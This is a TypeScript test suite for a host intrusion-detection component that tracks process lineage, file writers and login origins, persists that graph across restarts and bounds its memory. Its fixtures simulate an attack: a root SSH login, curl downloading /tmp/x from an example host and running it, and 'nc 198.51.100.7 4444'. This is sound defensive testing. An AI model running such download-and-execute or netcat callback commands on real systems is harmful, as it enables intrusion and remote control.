import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Detection } from '../../core/alert.ts';
import { Event, type Kind } from '../../core/gen/event.ts';
import type { LineageRows } from '../../core/ports.ts';
import { AlertFolder } from '../fold.ts';
import { noHost, type HostFacts } from './host.ts';
import { OriginGraph } from './graph.ts';
import { Origins } from './origins.ts';
import { listProcesses, tellStory } from './story.ts';

const t0 = Date.UTC(2026, 10, 22, 2, 27);
let serial = 0;

function event(kind: Kind, time: number, fields: Partial<Event>): Event {
  return Object.assign(new Event(`o${++serial}`, time, kind), fields);
}

/** ssh listener 800, a connection 900 with its shell 901, and /tmp/x (902) that curl (903, ended) wrote. */
function session(observe: (event: Event) => void): void {
  const tell = (kind: Kind, time: number, pid: number, started: number, fields: Partial<Event>): void => observe(event(kind, time, { pid, process_started: started, ...fields }));
  tell('process_creation', t0, 800, t0 - 1000, { action: 'process-seen', process_name: 'sshd', process_path: '/usr/sbin/sshd', process_cmdline: 'sshd: /usr/sbin/sshd -D [listener]' });
  tell('network_connection', t0 + 10, 800, t0 - 1000, { action: 'accept', direction: 'inbound', source_ip: '203.0.113.9', source_port: 50_122, destination_port: 22 });
  tell('process_fork', t0 + 20, 900, t0 + 20, { parent_pid: 800 });
  tell('process_fork', t0 + 30, 901, t0 + 30, { parent_pid: 900 });
  tell('process_creation', t0 + 40, 901, t0 + 30, { action: 'process-start', process_name: 'bash', process_path: '/bin/bash', process_cmdline: '-bash', user: 'root', uid: 0 });
  tell('process_fork', t0 + 50, 903, t0 + 50, { parent_pid: 901 });
  tell('process_creation', t0 + 60, 903, t0 + 50, { action: 'process-start', process_name: 'curl', process_path: '/usr/bin/curl', process_cmdline: 'curl -o /tmp/x http://dl.example/x', user: 'root' });
  tell('dns_query', t0 + 65, 903, t0 + 50, { destination_host: 'dl.example' });
  tell('network_connection', t0 + 70, 903, t0 + 50, { action: 'connect', direction: 'outbound', destination_ip: '198.51.100.7', destination_port: 80 });
  tell('file_event', t0 + 80, 903, t0 + 50, { action: 'write', file_path: '/tmp/x', file_inode: 9, file_device: 2 });
  tell('process_termination', t0 + 90, 903, t0 + 50, { exit_code: 0 });
  tell('process_fork', t0 + 100, 902, t0 + 100, { parent_pid: 901 });
  tell('process_creation', t0 + 110, 902, t0 + 100, { action: 'process-start', process_name: 'x', process_path: '/tmp/x', process_cmdline: '/tmp/x', user: 'root', file_inode: 9, file_device: 2 });
}

/** What a store does with the rows. */
class Table {
  readonly rows = new Map<string, string>();
  keep(change: LineageRows | undefined): void {
    if (!change) return;
    if (change.replace) this.rows.clear();
    for (const id of change.drop) this.rows.delete(id);
    for (const [id, value] of change.put) this.rows.set(id, value);
  }
  *saved(): Iterable<{ id: string; value: string }> { for (const [id, value] of this.rows) yield { id, value }; }
}

const open = (table: Table, host: Partial<HostFacts> = {}, now = t0, counted?: Map<string, number>): Origins =>
  new Origins({ lang: 'en', now: () => now, saved: table.saved(), host: { ...noHost, bootId: 'boot-a-1', ...host }, count: (what, n = 1) => counted?.set(what, (counted.get(what) ?? 0) + n) });

describe('the graph over a restart', () => {
  it('is as it was: origins shared, parents, deeds, who wrote what runs', () => {
    const table = new Table();
    const before = open(table);
    session((e) => before.observe(e));
    table.keep(before.due(t0 + 200, true));
    const { graph } = open(table, { pids: () => [1, 800, 900, 901, 902] }, t0 + 5000);
    const x = graph.process(902, t0 + 100)!;
    expect(x).toMatchObject({ path: '/tmp/x', ended: undefined, origin: { kind: 'login', user: 'root', source_ip: '203.0.113.9' } });
    expect(x.parent?.origin).toBe(x.origin);
    expect(x.root.pid).toBe(900);
    expect(x.writtenBy).toMatchObject({ path: '/tmp/x', process: { pid: 903, exit_code: 0 } });
    const curl = graph.process(903, t0 + 50)!;
    expect(curl.ended).toBe(t0 + 90);
    expect([curl.spoke[0]?.what, curl.asked[0]?.what, curl.wrote[0]?.what]).toEqual(['198.51.100.7 80', 'dl.example', '/tmp/x']);
    expect(graph.writer({ inode: 9, device: 2 })?.process).toBe(curl);
    // A late log line still reaches all of the session.
    graph.observe(event('sshd', t0 + 40, { action: 'login', outcome: 'success', pid: 900, process_name: 'sshd', user: 'wang', source_ip: '203.0.113.9', source_port: 50_122 }));
    expect(x.origin.user).toBe('wang');
  });

  it('finds its processes again after the clock was set', () => {
    const table = new Table();
    const before = open(table, { bootTime: 5000 });
    session((e) => before.observe(e));
    table.keep(before.due(t0 + 200, true));
    const { graph } = open(table, { bootTime: 8000, pids: () => [800, 900, 901, 902] });
    expect(graph.process(902, t0 + 100 + 3000)).toMatchObject({ parent: { pid: 901 }, writtenBy: { process: { pid: 903 } } });
  });

  it('knows which ended meanwhile, and after a reboot all are history that no new pid is mixed up with', () => {
    const table = new Table();
    const before = open(table);
    session((e) => before.observe(e));
    table.keep(before.due(t0 + 200, true));
    const later = open(table, { pids: () => [1, 800] }).graph;
    expect([later.process(800)?.ended, later.process(902), later.process(902, t0 + 100)?.ended]).toEqual([undefined, undefined, t0 + 200]);
    const rebooted = open(table, { bootId: 'boot-b-2', pids: () => [1, 800, 902] }).graph;
    expect(rebooted.process(902)).toBeUndefined();
    expect(rebooted.process(902, t0 + 100)).toMatchObject({ ended: t0 + 200, origin: { source_ip: '203.0.113.9' } });
    rebooted.observe(event('process_creation', t0 + 9000, { action: 'process-seen', pid: 902, process_started: t0 + 8000, process_name: 'chronyd', process_path: '/usr/sbin/chronyd' }));
    expect(rebooted.process(902)?.origin.kind).toBe('unknown');
  });

  it('is written a minute apart, in pieces, only what changed; all of it again after a commit that failed', () => {
    const table = new Table();
    const origins = open(table);
    expect(origins.due(t0 + 1000, false)).toBeUndefined();
    for (let pid = 1000; pid < 2200; pid++) origins.observe(event('process_creation', t0 + 1000, { action: 'process-seen', pid, process_started: t0, process_name: 'work', process_path: '/bin/work', process_cmdline: `work ${pid}` }));
    expect(origins.due(t0 + 2000, false)).toBeUndefined();
    let commits = 0;
    for (let change = origins.due(t0 + 61_000, false); change; change = origins.due(t0 + 61_000 + commits, false)) {
      expect(change.put.size).toBeLessThanOrEqual(251);
      table.keep(change);
      commits++;
    }
    expect([commits, table.rows.size]).toEqual([5, 1201]);
    origins.observe(event('dns_query', t0 + 70_000, { pid: 1500, process_started: t0, destination_host: 'a.example' }));
    origins.observe(event('process_termination', t0 + 70_000, { pid: 1501, process_started: t0 }));
    const next = origins.due(t0 + 130_000, false)!;
    expect([...next.put.keys()].sort()).toEqual([`boot-a-1:1500:${t0}`, `boot-a-1:1501:${t0}`, 'meta']);
    origins.lost();
    const whole = origins.due(t0 + 131_000, false)!;
    expect([whole.replace, whole.put.size]).toEqual([true, 1201]);
  });

  it('forgets after a day, in the store too', () => {
    const table = new Table();
    const origins = open(table);
    session((e) => origins.observe(e));
    table.keep(origins.due(t0 + 200, true));
    expect(table.rows.size).toBe(6);
    origins.tick(t0 + 23 * 3_600_000);
    expect(origins.graph.process(903, t0 + 50)).toBeDefined();
    origins.tick(t0 + 25 * 3_600_000);
    expect(origins.graph.process(903, t0 + 50)).toBeUndefined();
    table.keep(origins.due(t0 + 25 * 3_600_000, false));
    expect(table.rows.size).toBe(5);
  });

  it('what was damaged in the store is counted and the rest is read', () => {
    const table = new Table();
    const before = open(table);
    session((e) => before.observe(e));
    table.keep(before.due(t0 + 200, true));
    table.rows.set('a', '{nonsense');
    table.rows.set('b', JSON.stringify(Array.from({ length: 24 }, () => 'x')));
    table.rows.set('c', '[1,2]');
    const counted = new Map<string, number>();
    const { graph } = open(table, { pids: () => [902] }, t0, counted);
    expect(graph.process(902)?.path).toBe('/tmp/x');
    expect(counted.get('saved processes that could not be read')).toBe(3);
  });

  it('takes stored events that came after the last save, and log-ons of the whole day', () => {
    const table = new Table();
    const before = open(table);
    session((e) => before.observe(e));
    table.keep(before.due(t0 + 200, true));
    const after = open(table, { pids: () => [800, 900, 901, 902, 904] });
    after.warm(event('network_connection', t0 + 70, { pid: 903, process_started: t0 + 50, direction: 'outbound', destination_ip: '198.51.100.7', destination_port: 80 }));
    after.warm(event('sshd', t0 + 35, { action: 'login', outcome: 'success', pid: 900, user: 'li', source_ip: '203.0.113.9', source_port: 50_122 }));
    after.warm(event('process_creation', t0 + 300, { action: 'process-start', pid: 904, process_started: t0 + 290, parent_pid: 901, process_name: 'nc', process_path: '/bin/nc', process_cmdline: 'nc 198.51.100.7 4444' }));
    expect(after.graph.process(903, t0 + 50)?.spoke[0]?.count).toBe(1);
    expect(after.graph.process(904)?.origin).toMatchObject({ kind: 'login', user: 'li' });
  });
});

describe('the story', () => {
  const origins = open(new Table());
  session((e) => origins.observe(e));

  it('in one line for an alert, with the address when the event has none of its own', () => {
    const folder = new AlertFolder({ host: 'web1', lang: 'en', gap: 1000, story: (e) => origins.story(e) });
    const run = event('process_creation', t0 + 120, { action: 'process-start', pid: 902, process_started: t0 + 100, process_name: 'x', process_path: '/tmp/x', process_cmdline: '/tmp/x' });
    origins.observe(run);
    const detection: Detection = { ruleId: 'run_from_tmp', title: { zh: '甲', en: 'a' }, level: 'high', attack: [], key: 'k', time: run.time, events: [run], count: 1 };
    folder.add(detection);
    const { alert } = folder.drain()[0]!;
    expect(alert.origin).toMatch(/^ssh log-on of root from 203\.0\.113\.9 at (\d{4}-\d\d-\d\d )?\d\d:\d\d → bash → \/tmp\/x$/);
    expect([alert.origin_ip, alert.source_ip]).toEqual(['203.0.113.9', undefined]);
  });

  it('of a process, a file, an address and a name', () => {
    const { graph } = origins;
    expect(tellStory(graph, '902')).toMatchObject({ kind: 'process', chain: [{ pid: 800 }, { pid: 900 }, { pid: 901 }], written_by: { process: { pid: 903 } }, process: { origin: { kind: 'login' } } });
    expect(tellStory(graph, '901')).toMatchObject({ children: [{ pid: 903, children: [] }, { pid: 902 }] });
    expect(tellStory(graph, '/tmp/x')).toMatchObject({ kind: 'path', writer: { process: { pid: 903 } }, wrote: [{ pid: 903, touch: { count: 1 } }], ran: [{ pid: 902 }] });
    expect(tellStory(graph, '/srv/renamed', { inode: 9, device: 2 })).toMatchObject({ writer: { path: '/tmp/x' } });
    expect(tellStory(graph, '::ffff:203.0.113.9')).toMatchObject({ kind: 'address', address: '203.0.113.9', sessions: [{ pid: 900 }], spoke: [{ pid: 800 }] });
    expect(tellStory(graph, 'DL.example')).toMatchObject({ kind: 'name', asked: [{ pid: 903 }] });
    for (const nothing of ['4', '/etc/nothing', '192.0.2.1', 'other.example', '99999999999999']) expect(tellStory(graph, nothing)).toBeUndefined();
    // It goes through a socket as JSON: no rings.
    expect(() => JSON.stringify([tellStory(graph, '901'), listProcesses(graph, true)])).not.toThrow();
  });

  it('lists what runs, and what has ended when asked; a parent by its place', () => {
    const running = listProcesses(origins.graph, false).processes;
    expect(running.map((one) => [one.pid, one.parent === undefined ? undefined : running[one.parent]?.pid])).toEqual([[800, undefined], [900, 800], [901, 900], [902, 901]]);
    expect(listProcesses(origins.graph, true).processes.map((one) => one.pid)).toContain(903);
  });
});

describe('memory', () => {
  const kinds: Kind[] = ['process_fork', 'process_creation', 'process_termination', 'network_connection', 'dns_query', 'file_event', 'flow', 'listener', 'sshd', 'cron'];
  const bounds = { processes: 60, touches: 200, keepMs: 24 * 3_600_000 };

  it('stays within its bounds whatever comes, and the tree stays a tree', () => {
    const one = fc.record({ kind: fc.constantFrom(...kinds), pid: fc.integer({ min: 1, max: 120 }), parent: fc.integer({ min: 0, max: 120 }), started: fc.integer({ min: 0, max: 30 }), path: fc.constantFrom('/usr/sbin/sshd', '/usr/sbin/nginx', '/usr/sbin/cron', '/bin/sh', '/usr/bin/dpkg', '/usr/bin/node', undefined), what: fc.integer({ min: 0, max: 400 }), action: fc.constantFrom('write', 'create', 'rename', 'delete', 'process-seen', 'process-start', 'login', 'cron-run') });
    fc.assert(fc.property(fc.array(one, { minLength: 200, maxLength: 1500 }), (all) => {
      const counted = new Map<string, number>();
      const graph = new OriginGraph({ bounds, host: { ...noHost, pids: () => [1, 2, 3] }, count: (what, n = 1) => counted.set(what, (counted.get(what) ?? 0) + n) });
      let time = t0;
      for (const { kind, pid, parent, started, path, what, action } of all) {
        time += 7;
        const isLog = kind === 'sshd' || kind === 'cron';
        graph.observe(event(kind, time, {
          pid, action, outcome: 'success', user: 'u', source_ip: '203.0.113.9', source_port: what, process_cmdline: `c ${what}`, destination_host: `h${what}`, payload: 'x', direction: what % 2 === 0 ? 'inbound' : 'outbound',
          destination_ip: '198.51.100.7', destination_port: what, file_path: `/f${what}`, file_from: `/f${what + 1}`, file_inode: what, file_device: 1, process_path: path, process_name: path?.split('/').at(-1),
          ...(isLog ? {} : { process_started: t0 + started * 50, parent_pid: parent }),
        }));
      }
      graph.tick(time + 70_000);
      const nodes = [...graph.memory.all()];
      expect(nodes.length).toBe(graph.memory.size);
      expect(graph.memory.size).toBeLessThanOrEqual(bounds.processes);
      expect(nodes.reduce((sum, node) => sum + node.touches, 0)).toBe(graph.memory.touches);
      expect(graph.memory.touches).toBeLessThanOrEqual(bounds.touches);
      for (const node of nodes) {
        expect(node.wrote.length + node.read.length + node.spoke.length + node.asked.length).toBe(node.touches);
        let steps = 0;
        for (let at = node.parent; at !== undefined; at = at.parent) expect(++steps).toBeLessThan(200);
        if (node.parent) expect([...node.parent.children]).toContain(node);
        for (const child of node.children) expect(child.parent).toBe(node);
      }
    }), { numRuns: 40 });
  });

  it('under a flood of processes, files and connections keeps what tells most, and counts what it dropped', () => {
    const counted = new Map<string, number>();
    const graph = new OriginGraph({ bounds: { processes: 1000, touches: 3000 }, count: (what, n = 1) => counted.set(what, (counted.get(what) ?? 0) + n) });
    session((e) => graph.observe(e));
    let time = t0 + 1000;
    for (let i = 0; i < 20_000; i++) {
      const of = { pid: 10_000 + (i % 30_000), process_started: time };
      graph.observe(event('process_fork', time, { ...of, parent_pid: 901 }));
      graph.observe(event('process_creation', time, { ...of, action: 'process-start', process_path: '/bin/true', process_name: 'true', process_cmdline: `true ${i}` }));
      graph.observe(event('process_termination', time, { ...of }));
      time += 10;
    }
    expect(graph.memory.size).toBeLessThanOrEqual(1000);
    expect(counted.get('ended processes forgotten for room')).toBeGreaterThan(15_000);
    // The ended curl that wrote a file outlives twenty thousand that did nothing.
    expect(graph.process(903, t0 + 50)?.wrote).toHaveLength(1);
    for (let i = 0; i < 20_000; i++) graph.observe(event('file_event', time++, { pid: 902, process_started: t0 + 100, action: 'write', file_path: `/srv/data/${i}` }));
    expect(graph.process(902)?.wrote).toHaveLength(64);
    expect(graph.process(902)?.wrote.map((touch) => touch.what)).toEqual(expect.arrayContaining(['/srv/data/0', '/srv/data/19999']));
    expect(graph.process(902)?.forgotten).toBe(20_000 - 64);
    expect(graph.writers.size).toBeLessThanOrEqual(8192);
  });

  it('a daemon that forks itself anew and ends, again and again, does not grow a chain', () => {
    const graph = new OriginGraph();
    let pid = 100;
    graph.observe(event('process_creation', t0, { action: 'process-seen', pid, process_started: t0, process_path: '/tmp/d', process_name: 'd', process_cmdline: 'd' }));
    for (let i = 1; i <= 2000; i++) {
      graph.observe(event('process_fork', t0 + i * 20, { pid: pid + 1, process_started: t0 + i * 20, parent_pid: pid }));
      graph.observe(event('process_termination', t0 + i * 20 + 10, { pid, process_started: t0 + (i - 1) * 20 }));
      pid++;
    }
    const last = graph.process(pid)!;
    let depth = 0;
    for (let at = last.parent; at !== undefined; at = at.parent) depth++;
    expect(depth).toBeLessThan(100);
    expect(last.root.pid).toBe(100);
  });
});
